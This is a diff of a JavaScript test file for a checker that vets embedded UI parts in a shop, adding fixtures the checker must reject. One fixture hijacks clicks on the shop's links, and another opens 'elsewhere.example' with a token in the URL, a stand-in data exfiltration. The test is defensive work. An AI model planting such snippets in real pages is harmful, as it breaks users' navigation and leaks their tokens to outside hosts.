@@ -155,15 +155,27 @@ describe('a part for another screen', () => {
     expect(said.heldBack).toContain('POST /service/card');
   });
 
-  it('that breaks or leaves something behind does not pass', async () => {
-    const broken = "throw new Error('a part that breaks');";
+  it('that breaks does not pass', async () => {
+    const code = "throw new Error('a part that breaks');";
+    const said = await withParts({ 'account.rows': [code], 'order.receipt': [code] });
+    const told = matching(/^exception|^console/);
+    expect(said).toMatchObject({ outcome: 'failed', account: told, receipt: told });
+  });
+
+  it('that leaves something behind, takes presses or sends elsewhere does not pass', async () => {
     const overlay = `once(() => { const veil = document.createElement('div'); veil.id = 'veil'; document.body.append(veil); }); ${PART}`;
     const sheet = `once(() => { const style = document.createElement('style'); document.head.append(style); style.sheet.insertRule('footer { color: red }'); }); ${PART}`;
-    const said = await withParts({ 'account.rows': [overlay, broken], 'order.receipt': [sheet] });
+    const thief = `once(() => addEventListener('click', (event) => { if (event.target.closest('a')) { event.stopImmediatePropagation(); event.preventDefault(); } }, true)); ${PART}`;
+    const sender = `return React.createElement('button', { type: 'button', onClick: () => void window.open('https://elsewhere.example/?token=1') }, '카드 보내기');`;
+    const said = await withParts({ 'account.rows': [overlay], 'order.receipt': [sheet, thief, sender] });
     expect(said).toMatchObject({
       outcome: 'failed',
-      account: matching(/^node: it leaves <div#veil>/, /^exception|^console/),
-      receipt: matching(/^style: it leaves <style> with "footer/),
+      account: matching(/^node: it leaves <div#veil>/),
+      receipt: matching(
+        /^style: it leaves <style> with "footer/,
+        /^click: a press on the shop's link to \/\S+ leads nowhere/,
+        /^origin: after a press.* https:\/\/elsewhere\.example\/ with data in it/,
+      ),
     });
   });
 });
